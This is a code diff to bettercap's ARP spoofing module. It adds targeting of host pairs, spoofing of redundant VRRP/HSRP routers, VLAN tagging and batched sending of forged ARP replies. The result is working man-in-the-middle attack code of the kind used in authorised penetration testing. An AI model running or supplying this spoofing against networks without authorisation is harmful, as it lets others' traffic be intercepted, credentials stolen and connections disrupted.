@@ -6,8 +6,9 @@ import (
 	"sync"
 	"time"
 
+	"github.com/bettercap/bettercap/journal"
+	"github.com/bettercap/bettercap/modules/utils"
 	"github.com/bettercap/bettercap/network"
-	"github.com/bettercap/bettercap/packets"
 	"github.com/bettercap/bettercap/session"
 
 	"github.com/malfunkt/iprange"
@@ -22,7 +23,17 @@ type ArpSpoofer struct {
 	fullDuplex bool
 	internal   bool
 	ban        bool
+	vlan       *utils.VLAN
+	frames     *frameCache
+	sending    *sync.WaitGroup
 	waitGroup  *sync.WaitGroup
+	tracked    string
+	pairs      map[string]hostPair
+	excluded   map[string]hostPair
+	redundancy bool
+	announced  string
+	gwLock     sync.Mutex
+	gateways   []gateway
 }
 
 func NewArpSpoofer(s *session.Session) *ArpSpoofer {
@@ -35,9 +46,13 @@ func NewArpSpoofer(s *session.Session) *ArpSpoofer {
 		ban:           false,
 		internal:      false,
 		fullDuplex:    false,
+		frames:        newFrameCache(),
+		sending:       &sync.WaitGroup{},
 		waitGroup:     &sync.WaitGroup{},
 	}
 
+	mod.InitState("targets")
+
 	mod.AddParam(session.NewStringParameter("arp.spoof.targets", session.ParamSubnet, "", "Comma separated list of IP addresses, MAC addresses or aliases to spoof, also supports nmap style IP ranges."))
 
 	mod.AddParam(session.NewStringParameter("arp.spoof.whitelist", "", "", "Comma separated list of IP addresses, MAC addresses or aliases to skip while spoofing."))
@@ -46,10 +61,28 @@ func NewArpSpoofer(s *session.Session) *ArpSpoofer {
 		"false",
 		"If true, local connections among computers of the network will be spoofed, otherwise only connections going to and coming from the external network."))
 
+	mod.AddParam(session.NewStringParameter("arp.spoof.internal.pairs",
+		"",
+		"",
+		"Comma separated list of A<>B pairs of hosts whose traffic to each other is spoofed in internal mode instead of the traffic of the targets to every neighbour, each side is an IP address, a MAC address, an alias or an IP range."))
+
+	mod.AddParam(session.NewStringParameter("arp.spoof.internal.exclude",
+		"",
+		"",
+		"Comma separated list of A<>B pairs of hosts whose traffic to each other must not be spoofed in internal mode."))
+
 	mod.AddParam(session.NewBoolParameter("arp.spoof.fullduplex",
 		"false",
 		"If true, both the targets and the gateway will be attacked, otherwise only the target (if the router has ARP spoofing protections in place this will make the attack fail)."))
 
+	mod.AddParam(session.NewBoolParameter("arp.spoof.redundancy",
+		"false",
+		"If true and the gateway is the virtual address of a VRRP or HSRP group, the physical routers of the group are spoofed too and, in full duplex mode, every one of them is told the targets are at our MAC address."))
+
+	mod.vlan = utils.VLANFor(&mod.SessionModule, "arp.spoof")
+
+	journal.Register(journalKind, mod.restoreJournal)
+
 	mod.AddHandler(session.NewModuleHandler("arp.spoof on", "",
 		"Start ARP spoofer.",
 		func(args []string) error {
@@ -75,6 +108,12 @@ func NewArpSpoofer(s *session.Session) *ArpSpoofer {
 			return mod.Stop()
 		}))
 
+	mod.AddHandler(session.NewModuleHandler("arp.spoof.pairs", "",
+		"Show which pairs of hosts of the network have their traffic to each other spoofed in internal mode, with the traffic seen between them.",
+		func(args []string) error {
+			return mod.showPairs()
+		}))
+
 	return mod
 }
 
@@ -99,6 +138,8 @@ func (mod *ArpSpoofer) Configure() error {
 		return err
 	} else if err, mod.internal = mod.BoolParam("arp.spoof.internal"); err != nil {
 		return err
+	} else if err, mod.redundancy = mod.BoolParam("arp.spoof.redundancy"); err != nil {
+		return err
 	} else if err, targets = mod.StringParam("arp.spoof.targets"); err != nil {
 		return err
 	} else if err, whitelist = mod.StringParam("arp.spoof.whitelist"); err != nil {
@@ -107,10 +148,23 @@ func (mod *ArpSpoofer) Configure() error {
 		return err
 	} else if mod.wAddresses, mod.wMacs, err = network.ParseTargets(whitelist, mod.Session.Lan.Aliases()); err != nil {
 		return err
+	} else if err = mod.configurePairs(); err != nil {
+		return err
+	} else if err = mod.vlan.Update(); err != nil {
+		return err
 	}
 
+	// the VLAN identifier might have changed
+	mod.frames.clear()
+	mod.announced = ""
+	mod.gateways = nil
+
 	mod.Debug(" addresses=%v macs=%v whitelisted-addresses=%v whitelisted-macs=%v", mod.addresses, mod.macs, mod.wAddresses, mod.wMacs)
 
+	if !mod.internal && (len(mod.pairs) > 0 || len(mod.excluded) > 0) {
+		mod.Warning("arp.spoof.internal is false, the pairs of hosts will be ignored.")
+	}
+
 	if mod.ban {
 		mod.Warning("running in ban mode, forwarding not enabled!")
 		mod.Session.Firewall.EnableForwarding(false)
@@ -136,7 +190,9 @@ func (mod *ArpSpoofer) Start() error {
 	return mod.SetRunning(true, func() {
 		neighbours := []net.IP{}
 
-		if mod.internal {
+		if mod.internal && len(mod.pairs) > 0 {
+			mod.Warning("arp spoofer started targeting %d pairs of hosts and %d targets.", len(mod.pairs), nTargets)
+		} else if mod.internal {
 			list, _ := iprange.ParseList(mod.Session.Interface.CIDR())
 			neighbours = list.Expand()
 			nNeigh := len(neighbours) - 2
@@ -153,38 +209,63 @@ func (mod *ArpSpoofer) Start() error {
 		mod.waitGroup.Add(1)
 		defer mod.waitGroup.Done()
 
-		gwIP := mod.Session.Gateway.IP
 		myMAC := mod.Session.Interface.HW
 		for mod.Running() {
-			mod.arpSpoofTargets(gwIP, myMAC, true, false)
-			for _, address := range neighbours {
-				if !mod.Session.Skip(address) {
-					mod.arpSpoofTargets(address, myMAC, true, false)
-				}
+			gateways := mod.updateGateways()
+			mod.trackTargets()
+
+			// resolve the targets once per iteration and send all the
+			// replies as a single batch without waiting for them
+			targets := mod.getTargets(false)
+			mod.State.Store("targets", len(targets))
+			frames := make([][]byte, 0)
+			for _, gw := range gateways {
+				frames = append(frames, mod.spoofFrames(gw.IP, myMAC, targets, true)...)
 			}
+			if mod.internal {
+				frames = append(frames, mod.internalFrames(neighbours, targets, false)...)
+			}
+
+			mod.Debug("sending %d ARP packets.", len(frames))
+			mod.sending.Add(1)
+			mod.Session.Queue.SendAsync(frames, func(sent int, err error) {
+				mod.onSent(sent, err)
+				mod.sending.Done()
+			})
+			mod.frames.sweep()
 
 			time.Sleep(1 * time.Second)
 		}
 	})
 }
 
+func (mod *ArpSpoofer) onSent(sent int, err error) {
+	if err != nil {
+		mod.Error("error while sending ARP packets (%d sent): %v", sent, err)
+	}
+}
+
 func (mod *ArpSpoofer) unSpoof() error {
 	nTargets := len(mod.addresses) + len(mod.macs)
 	mod.Info("restoring ARP cache of %d targets.", nTargets)
-	mod.arpSpoofTargets(mod.Session.Gateway.IP, mod.Session.Gateway.HW, false, false)
+
+	targets := mod.getTargets(false)
+	frames := make([][]byte, 0)
+	for _, gw := range mod.currentGateways() {
+		frames = append(frames, mod.spoofFrames(gw.IP, gw.HW, targets, false)...)
+	}
 
 	if mod.internal {
 		list, _ := iprange.ParseList(mod.Session.Interface.CIDR())
-		neighbours := list.Expand()
-		for _, address := range neighbours {
-			if !mod.Session.Skip(address) {
-				if realMAC, err := mod.Session.FindMAC(address, false); err == nil {
-					mod.arpSpoofTargets(address, realMAC, false, false)
-				}
-			}
-		}
+		frames = append(frames, mod.internalFrames(list.Expand(), targets, true)...)
 	}
 
+	// make sure no spoofing batch is sent after the restoring one, which is
+	// synchronous so that it's completed before the module stops
+	mod.sending.Wait()
+	mod.onSent(mod.Session.Queue.SendBatch(frames))
+	mod.frames.clear()
+
 	return nil
 }
 
@@ -194,6 +275,8 @@ func (mod *ArpSpoofer) Stop() error {
 		mod.unSpoof()
 		mod.ban = false
 		mod.waitGroup.Wait()
+		mod.untrackTargets()
+		mod.State.Store("targets", nil)
 	})
 }
 
@@ -239,28 +322,30 @@ func (mod *ArpSpoofer) getTargets(probe bool) map[string]net.HardwareAddr {
 	return targets
 }
 
-func (mod *ArpSpoofer) arpSpoofTargets(saddr net.IP, smac net.HardwareAddr, check_running bool, probe bool) {
+// spoofFrames returns the ARP replies telling every target that saddr is at
+// smac and, in full duplex mode, the ones for the gateway (or the physical
+// router saddr is the address of).
+func (mod *ArpSpoofer) spoofFrames(saddr net.IP, smac net.HardwareAddr, targets map[string]net.HardwareAddr, check_running bool) [][]byte {
 	mod.waitGroup.Add(1)
 	defer mod.waitGroup.Done()
 
-	gwIP := mod.Session.Gateway.IP
-	gwHW := mod.Session.Gateway.HW
+	gwIP := saddr
 	ourHW := mod.Session.Interface.HW
-	isGW := false
 	isSpoofing := false
+	frames := make([][]byte, 0, len(targets))
 
 	// are we spoofing the gateway IP?
-	if bytes.Equal(saddr, gwIP) {
-		isGW = true
+	gwHW, isGW := mod.gatewayHW(saddr)
+	if isGW {
 		// are we restoring the original MAC of the gateway?
 		if !bytes.Equal(smac, gwHW) {
 			isSpoofing = true
 		}
 	}
 
-	for ip, mac := range mod.getTargets(probe) {
+	for ip, mac := range targets {
 		if check_running && !mod.Running() {
-			return
+			return frames
 		} else if mod.isWhitelisted(ip, mac) {
 			mod.Debug("%s (%s) is whitelisted, skipping from spoofing loop.", ip, mac)
 			continue
@@ -269,11 +354,10 @@ func (mod *ArpSpoofer) arpSpoofTargets(saddr net.IP, smac net.HardwareAddr, chec
 		}
 
 		rawIP := net.ParseIP(ip)
-		if err, pkt := packets.NewARPReply(saddr, smac, rawIP, mac); err != nil {
+		if err, pkt := mod.frames.reply(mod.vlan, saddr, smac, rawIP, mac); err != nil {
 			mod.Error("error while creating ARP spoof packet for %s: %s", ip, err)
 		} else {
-			mod.Debug("sending %d bytes of ARP packet to %s:%s.", len(pkt), ip, mac.String())
-			mod.Session.Queue.Send(pkt)
+			frames = append(frames, pkt)
 		}
 
 		if mod.fullDuplex && isGW {
@@ -281,26 +365,23 @@ func (mod *ArpSpoofer) arpSpoofTargets(saddr net.IP, smac net.HardwareAddr, chec
 			gwPacket := []byte(nil)
 
 			if isSpoofing {
-				mod.Debug("telling the gw we are %s", ip)
 				// we told the target we're te gateway, not let's tell the
 				// gateway that we are the target
-				if err, gwPacket = packets.NewARPReply(rawIP, ourHW, gwIP, gwHW); err != nil {
+				if err, gwPacket = mod.frames.reply(mod.vlan, rawIP, ourHW, gwIP, gwHW); err != nil {
 					mod.Error("error while creating ARP spoof packet: %s", err)
 				}
 			} else {
-				mod.Debug("telling the gw %s is %s", ip, mac)
 				// send the gateway the original MAC of the target
-				if err, gwPacket = packets.NewARPReply(rawIP, mac, gwIP, gwHW); err != nil {
+				if err, gwPacket = mod.frames.reply(mod.vlan, rawIP, mac, gwIP, gwHW); err != nil {
 					mod.Error("error while creating ARP spoof packet: %s", err)
 				}
 			}
 
 			if gwPacket != nil {
-				mod.Debug("sending %d bytes of ARP packet to the gateway", len(gwPacket))
-				if err = mod.Session.Queue.Send(gwPacket); err != nil {
-					mod.Error("error while sending packet: %v", err)
-				}
+				frames = append(frames, gwPacket)
 			}
 		}
 	}
+
+	return frames
 }